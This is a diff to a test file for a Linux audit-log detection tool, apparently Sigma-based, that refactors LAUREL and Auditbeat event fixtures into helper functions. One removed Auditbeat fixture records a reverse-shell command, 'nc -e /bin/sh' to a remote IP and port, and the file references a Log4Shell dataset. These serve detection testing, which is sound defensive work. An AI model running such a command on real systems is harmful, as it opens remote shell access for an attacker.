@@ -15,6 +15,7 @@ import { readEventsFromFile } from '../../src/readers/detect.js';
 import { LinuxStream } from '../../src/readers/linux/stream.js';
 import { loadRules } from '../../src/sigma/collection.js';
 import { HAVE_SHARED, REPO, SHARED } from '../helpers.js';
+import { auditbeatNc, laurelCurl } from './shipper-docs.js';
 
 const LOG4SHELL = join(SHARED, 'linux/otrf-security-datasets/datasets/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json');
 
@@ -169,30 +170,11 @@ describe('Sysmon for Linux fixtures (format of outputxml.cpp)', () => {
 
 describe('shipper JSON: LAUREL and Auditbeat give the events the raw records give', () => {
   it('LAUREL: ARGV lists, 0x numbers, percent-encoding, PARENT_INFO', async () => {
+    const base = laurelCurl();
     const doc = {
-      ID: '1709287200.250:4711',
-      SYSCALL: {
-        arch: '0xc000003e',
-        syscall: 59,
-        success: 'yes',
-        exit: 0,
-        ppid: 1500,
-        pid: 1501,
-        auid: 1000,
-        uid: 0,
-        euid: 0,
-        ses: 7,
-        comm: 'curl',
-        exe: '/usr/bin/curl',
-        key: 'susp_activity',
-        ARCH: 'x86_64',
-        SYSCALL: 'execve',
-        AUID: 'alice',
-        UID: 'root',
-      },
-      EXECVE: { argc: 3, ARGV: ['curl', '-o', '/tmp/a%20b'] },
-      CWD: { cwd: '/root' },
-      PATH: [{ item: 0, name: '/usr/bin/curl', nametype: 'NORMAL', mode: '0o100755' }],
+      ...base,
+      SYSCALL: { ...base.SYSCALL, key: 'susp_activity', AUID: 'alice', UID: 'root' },
+      PATH: [{ ...base.PATH[0], mode: '0o100755' }],
       PROCTITLE: { ARGV: ['curl', '-o', '/tmp/a%20b'] },
       PARENT_INFO: { ID: '1709287100.000:4000', comm: 'bash', exe: '/usr/bin/bash', ppid: 1400 },
     };
@@ -209,22 +191,7 @@ describe('shipper JSON: LAUREL and Auditbeat give the events the raw records giv
   });
 
   it('Auditbeat: a joined document, and one with the raw records in event.original', async () => {
-    const joined = {
-      '@timestamp': '2024-03-01T10:00:00.250Z',
-      host: { name: 'app1' },
-      event: { module: 'auditd', action: 'executed', category: ['process'] },
-      auditd: {
-        message_type: 'syscall',
-        sequence: 901,
-        result: 'success',
-        session: '7',
-        data: { syscall: 'execve', arch: 'x86_64', a0: '55d0', tty: 'pts0' },
-        paths: [{ name: '/usr/bin/nc', nametype: 'NORMAL', item: '0' }],
-      },
-      process: { pid: 77, parent: { pid: 70 }, executable: '/usr/bin/nc', name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], working_directory: '/tmp' },
-      user: { id: '0', audit: { id: '1000' } },
-      tags: ['susp_activity'],
-    };
+    const joined = { ...auditbeatNc(), tags: ['susp_activity'] };
     const raw = {
       '@timestamp': '2024-03-01T10:00:01.000Z',
       host: { name: 'app1' },
